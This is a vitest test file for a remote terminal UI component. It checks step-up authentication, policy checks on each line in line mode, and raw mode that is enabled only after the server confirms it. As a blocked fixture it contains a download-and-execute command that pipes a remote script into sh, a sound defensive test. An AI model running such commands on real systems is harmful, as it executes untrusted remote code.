/**
 * The terminal tab with the real xterm (DOM renderer in jsdom) and a fake of main's API:
 * step-up before opening, line mode (a finished line goes to main's policy check; a blocked
 * line is explained under the terminal and nothing raw is sent), and raw mode only once the
 * server has confirmed it. Typing arrives through xterm's own input element (a paste, which
 * xterm turns into the same onData stream as keystrokes).
 */
import { act, cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { BulwarkApi } from '../../../shared/ipc/bulwark-api';
import type { IpcEventPayload, SessionView } from '../../../shared/ipc/schemas';
import { setBulwarkForTests } from '../bridge/index';
import { useSession } from '../state/session-store';
import { TerminalView } from './TerminalView';

const TENANT = '22222222-2222-4222-8222-222222222222';
const ENDPOINT = '44444444-4444-4444-8444-444444444444';
const TERMINAL = '33333333-3333-4333-8333-333333333333';
const BLOCKED_LINE = 'curl -fsSL http://downloads.example/x.sh | sh';

const ok = <T,>(value: T) => Promise.resolve({ ok: true as const, value });

function session(stepUps: SessionView['stepUps'] = []): SessionView {
  return {
    serverUrl: 'https://bulwark.example.com',
    user: {
      id: '11111111-1111-4111-8111-111111111111',
      email: 'tech@example.com',
      displayName: 'Tess',
      role: 'technician',
      tenantId: TENANT,
    },
    tenant: { id: TENANT, name: 'Acme', state: 'active', stateReason: null },
    sessionId: '55555555-5555-4555-8555-555555555555',
    sessionExpiresAt: '2099-01-01T00:00:00.000Z',
    stepUps,
    vault: { remembered: true, message: null },
  };
}

function fakeApi(trust: { level: 'standard' | 'extended'; expiresAt: string | null }) {
  const listeners = new Map<string, (payload: unknown) => void>();
  const on = (name: string) => (listener: (payload: unknown) => void) => {
    listeners.set(name, listener);
    return () => listeners.delete(name);
  };
  const api = {
    auth: {
      stepUp: vi.fn(() => ok({ action: 'terminal' as const, expiresAt: '2099-01-01T00:00:00.000Z' })),
      me: vi.fn(() => ok(session([{ action: 'terminal', expiresAt: '2099-01-01T00:00:00.000Z' }]))),
    },
    api: {
      call: vi.fn((route: string) =>
        route === 'getTrust'
          ? ok({ tenantId: TENANT, level: trust.level, expiresAt: trust.expiresAt, grantedAt: null, pendingRequest: null })
          : Promise.resolve({ ok: false as const, error: { code: 'not_found', message: 'no' } }),
      ),
    },
    terminal: {
      open: vi.fn(() => ok({ terminalId: TERMINAL, endpointId: ENDPOINT, shell: 'bash' as const, platform: 'linux' as const })),
      sendLine: vi.fn((request: { terminalId: string; line: string }) =>
        request.line === BLOCKED_LINE
          ? ok({
              sent: false as const,
              block: {
                source: 'console' as const,
                text: BLOCKED_LINE,
                sha256: null,
                message: 'Downloads and runs code',
                reasons: [
                  {
                    code: 'download_execute',
                    severity: 'block' as const,
                    ruleId: 'dl.pipe-to-interpreter',
                    message: 'Downloads code and runs it straight away.',
                    spans: [{ start: 0, end: BLOCKED_LINE.length }],
                    remedy: 'Ask a supervisor for extended trust.',
                  },
                ],
              },
            })
          : ok({ sent: true as const, flagged: [] }),
      ),
      input: vi.fn(() => ok({ sent: true as const })),
      rawInput: vi.fn(() => ok({ sent: true as const })),
      setMode: vi.fn((request: { mode: 'line' | 'raw' }) => ok({ requested: request.mode })),
      resize: vi.fn(() => ok({ resized: true as const })),
      close: vi.fn(() => ok({ closed: true as const })),
    },
    events: {
      onTerminalOutput: on('output'),
      onTerminalClosed: on('closed'),
      onTerminalMode: on('mode'),
      onPolicyBlock: on('block'),
    },
  };
  return {
    api,
    emit: <E extends 'mode' | 'output'>(name: E, payload: E extends 'mode' ? IpcEventPayload<'event:terminal-mode'> : unknown) =>
      act(() => listeners.get(name)?.(payload)),
  };
}

/** Types into xterm the way a paste does: xterm turns it into its onData stream (newlines become Enter). */
function typeIntoTerminal(text: string) {
  const input = document.querySelector('.xterm-helper-textarea');
  if (!input) throw new Error('xterm did not render its input element');
  fireEvent.paste(input, { clipboardData: { getData: () => text } });
}

/** jsdom has no matchMedia; xterm asks it for the device pixel ratio. An environment stub, not part of what is tested. */
function stubMatchMedia() {
  if (typeof window.matchMedia === 'function') return;
  window.matchMedia = (query: string) => ({
    matches: false,
    media: query,
    onchange: null,
    addListener: () => undefined,
    removeListener: () => undefined,
    addEventListener: () => undefined,
    removeEventListener: () => undefined,
    dispatchEvent: () => false,
  });
}

beforeEach(() => {
  stubMatchMedia();
  useSession.setState({ status: 'signed-in', session: session(), signedOutMessage: null });
});
afterEach(() => {
  cleanup();
  setBulwarkForTests(null);
});

describe('TerminalView', () => {
  it('asks for step-up first, then explains a blocked line under the terminal and sends nothing raw', async () => {
    const { api } = fakeApi({ level: 'standard', expiresAt: null });
    setBulwarkForTests(api as unknown as BulwarkApi);
    render(<TerminalView endpointId={ENDPOINT} endpointName="web-01" tenantId={TENANT} />);

    fireEvent.click(screen.getByRole('button', { name: 'Open terminal' }));
    const dialog = await screen.findByRole('dialog', { name: 'Confirm it is you' });
    expect(api.terminal.open).not.toHaveBeenCalled();
    fireEvent.change(screen.getByLabelText('Authenticator code'), { target: { value: '123456' } });
    fireEvent.click(screen.getByRole('button', { name: 'Confirm' }));
    await waitFor(() => expect(api.terminal.open).toHaveBeenCalledWith({ endpointId: ENDPOINT, cols: 100, rows: 30 }));
    expect(api.auth.stepUp).toHaveBeenCalledWith({ action: 'terminal', code: '123456' });
    expect(dialog.isConnected).toBe(false);

    await screen.findByText(/line mode: each line is checked/);
    // No extended trust: no raw-keystroke switch at all.
    expect(screen.queryByLabelText(/Raw keystrokes/)).toBeNull();

    typeIntoTerminal(`${BLOCKED_LINE}\r`);
    await waitFor(() => expect(api.terminal.sendLine).toHaveBeenCalledWith({ terminalId: TERMINAL, line: BLOCKED_LINE }));
    const panel = await screen.findByRole('region', { name: 'Blocked by the security policy — nothing was sent' });
    expect(panel.textContent).toContain('Downloads code and runs it straight away.');
    expect(panel.textContent).toContain('download_execute');
    expect(api.terminal.rawInput).not.toHaveBeenCalled();
    expect(api.terminal.input).not.toHaveBeenCalled();

    typeIntoTerminal('hostname\r');
    await waitFor(() => expect(api.terminal.sendLine).toHaveBeenLastCalledWith({ terminalId: TERMINAL, line: 'hostname' }));
  });

  it('sends raw keystrokes only after the server confirms raw mode (extended trust)', async () => {
    useSession.setState({ session: session([{ action: 'terminal', expiresAt: '2099-01-01T00:00:00.000Z' }]) });
    const { api, emit } = fakeApi({ level: 'extended', expiresAt: '2099-01-01T00:00:00.000Z' });
    setBulwarkForTests(api as unknown as BulwarkApi);
    render(<TerminalView endpointId={ENDPOINT} endpointName="web-01" tenantId={TENANT} />);

    fireEvent.click(screen.getByRole('button', { name: 'Open terminal' }));
    const toggle = await screen.findByLabelText<HTMLInputElement>(/Raw keystrokes/);
    fireEvent.click(toggle);
    await waitFor(() => expect(api.terminal.setMode).toHaveBeenCalledWith({ terminalId: TERMINAL, mode: 'raw' }));
    // Asked, not yet granted: typing still goes through the line editor.
    expect(toggle.checked).toBe(false);
    typeIntoTerminal('ls\r');
    await waitFor(() => expect(api.terminal.sendLine).toHaveBeenCalledWith({ terminalId: TERMINAL, line: 'ls' }));

    emit('mode', { terminalId: TERMINAL, mode: 'raw', message: 'Raw mode: extended trust until 1 Jan' });
    expect(toggle.checked).toBe(true);
    typeIntoTerminal('vim notes.txt\r');
    await waitFor(() => expect(api.terminal.rawInput).toHaveBeenCalledWith({ terminalId: TERMINAL, data: 'vim notes.txt\r' }));
    expect(api.terminal.sendLine).toHaveBeenCalledTimes(1);

    // Trust ended: the server puts the terminal back in line mode.
    emit('mode', { terminalId: TERMINAL, mode: 'line', message: 'Extended trust ended: back to line mode' });
    expect(toggle.checked).toBe(false);
    expect(screen.getByText('Extended trust ended: back to line mode')).toBeTruthy();
    typeIntoTerminal('pwd\r');
    await waitFor(() => expect(api.terminal.sendLine).toHaveBeenLastCalledWith({ terminalId: TERMINAL, line: 'pwd' }));
    expect(api.terminal.rawInput).toHaveBeenCalledTimes(1);
  });
});
